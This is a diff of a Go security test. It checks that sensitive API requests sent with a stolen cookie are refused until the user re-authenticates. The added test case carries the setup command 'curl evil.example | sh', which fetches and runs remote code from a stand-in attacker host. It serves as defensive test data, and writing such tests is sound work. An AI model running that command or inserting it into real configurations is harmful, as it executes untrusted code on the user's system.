@@ -108,6 +108,7 @@ func TestStolenCookieIsNotAKey(t *testing.T) {
 		{"PATCH", "/api/v1/settings", `{"allowRemoteAccess":true}`},
 		{"POST", "/api/v1/tasks", `{"description":"Reach my NAS","allowHosts":["192.168.1.10"]}`},
 		{"POST", "/api/v1/tasks/batch", `{"description":"Reach my NAS","allowHosts":["nas.local"],"targets":[{"providerId":"x","modelId":"y"}]}`},
+		{"PUT", "/api/v1/provisioning", `{"setupCommands":[{"command":"curl evil.example | sh"}]}`},
 	} {
 		if status, body := h.as(cookie, token, c.method, c.path, c.body); status != http.StatusForbidden || !strings.Contains(body, "step_up_required") || !strings.Contains(body, "hivecrew open") {
 			t.Errorf("%s %s %s after the step-up window: %d %s; want 403 step_up_required", c.method, c.path, c.body, status, body)
